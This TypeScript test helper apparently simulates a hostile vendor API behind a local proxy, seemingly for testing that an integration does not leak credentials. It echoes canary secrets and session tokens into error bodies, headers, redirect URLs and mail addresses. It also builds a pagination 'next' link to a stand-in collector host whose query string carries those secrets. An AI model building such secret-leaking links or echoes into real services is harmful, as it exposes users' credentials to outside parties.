import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Auth } from '../../functions/core/auth.ts';
import { echoOf } from './canaries.ts';

/** The behaviour of the vendor, chosen by the first part of the path: `/forbidden/...`. */
export const MISDEEDS = [
  'unauthorized',
  'forbidden',
  'broken',
  'redirect',
  'garbage',
  'hang-up',
  'html',
  'foreign-next',
] as const;
export type Manner = (typeof MISDEEDS)[number] | 'good';

/** A proxy before a simulated vendor that echoes what callers send and the secrets that it knows, in every form. */
export interface EchoingVendor {
  readonly origin: string;
  /** The headers and bodies of all requests. */
  readonly received: string[];
  /** The tokens that the vendor has given out. */
  readonly tokens: Set<string>;
  close(): Promise<void>;
}

export async function startEchoingVendor(
  behind: string,
  secrets: readonly string[],
  auth: Auth,
): Promise<EchoingVendor> {
  const signIn = signInOf(auth);
  const received: string[] = [];
  const tokens = new Set<string>();
  const server = createServer((request, response) => {
    answer(request, response).catch((failure: Error) => response.destroy(failure));
  });

  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const [, manner = '', path = ''] = /^\/([^/]+)(\/.*)$/.exec(request.url ?? '') ?? [];
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString();
    const told = JSON.stringify([request.rawHeaders, body]);
    received.push(told);
    // Nobody can mask the token of somebody else's session.
    const [own = ''] = [...tokens].filter((token) => request.rawHeaders.some((header) => header.endsWith(token)));
    const known = own === '' ? secrets : [own, ...secrets];
    const echo = [told, ...known.map(echoOf)].join('\n');
    const isSignIn = signIn.paths.some((one) => path.endsWith(one));
    const leadsAway = manner === 'foreign-next' && !isSignIn;
    if (manner !== 'good' && !isSignIn && !leadsAway) return misbehave(manner as Manner, echo, response);
    const { host: _, 'accept-encoding': __, connection: ___, 'content-length': ____, ...headers } = request.headers;
    const method = request.method ?? 'GET';
    const real = await fetch(`${behind}${path}`, {
      method,
      headers: headers as Record<string, string>,
      ...(method === 'POST' && { body }),
      redirect: 'manual',
    });
    const self = `${origin()}/${manner}`;
    const text = (await real.text()).replaceAll(behind, self);
    const token =
      isSignIn && real.ok ? (JSON.parse(text) as Readonly<Record<string, string>>)[signIn.token] : undefined;
    if (token !== undefined) tokens.add(token);
    const kept = [...real.headers].filter(
      ([name]) => !/^(content-length|content-encoding|connection|transfer-encoding|keep-alive)$/.test(name),
    );
    const answered = Object.fromEntries(kept.map(([name, value]) => [name, value.replaceAll(behind, self)]));
    // Rows contain secrets too: one is appended to every mail address.
    const [first = ''] = known;
    const told2 = isSignIn
      ? text
      : text.replace(/@[a-z0-9.-]+/g, `$&.${encodeURIComponent(first).replaceAll('%22', '')}`);
    const elsewhere = `https://collector.example.net/?${encodeURIComponent(echo).slice(0, 6_000)}`;
    response.writeHead(real.status, { ...answered, ...(leadsAway && { link: `<${elsewhere}>; rel="next"` }) });
    response.end(leadsAway ? withNext(told2, elsewhere) : told2);
  }

  function origin(): string {
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  return {
    origin: origin(),
    received,
    tokens,
    close: () =>
      new Promise((closed) => {
        server.close(() => closed());
        server.closeAllConnections();
      }),
  };
}

/** The requests that sign in, and the field of their answers with the token. */
function signInOf(auth: Auth): { readonly paths: readonly string[]; readonly token: string } {
  if (auth.kind === 'session') return { paths: auth.signIn.map(({ url }) => url), token: auth.answer.token };
  if (auth.kind === 'oauth2-client-credentials') {
    const { tokenUrl = '/' } = auth;
    return { paths: [new URL(tokenUrl, 'https://vendor.invalid').pathname], token: 'access_token' };
  }
  return { paths: [], token: '' };
}

/** A document with another next link, wherever vendors have it: of two members with one name, the last one counts. */
function withNext(text: string, href: string): string {
  return text.replace(/\}\s*$/, `,"_links":${JSON.stringify({ next: { href } })},"next":${JSON.stringify(href)}}`);
}

const STATUS: Readonly<Partial<Record<Manner, number>>> = { unauthorized: 401, forbidden: 403, broken: 500 };

function misbehave(manner: Manner, echo: string, response: ServerResponse): void {
  const line = encodeURIComponent(echo).slice(0, 6_000);
  if (manner === 'hang-up') return void response.destroy();
  if (manner === 'garbage') return void response.socket?.end(`HTTP/1.1 200 OK\r\n${echo}\r\n\r\n`);
  if (manner === 'redirect') return void response.writeHead(302, { location: `/login?token=${line}` }).end(echo);
  if (manner === 'html') return void response.writeHead(200, { 'content-type': 'text/html' }).end(`<html>${echo}`);
  response.writeHead(STATUS[manner] ?? 500, { 'content-type': 'application/json', 'x-echo': line });
  response.end(JSON.stringify({ error: echo, message: echo.slice(0, 300) }));
}
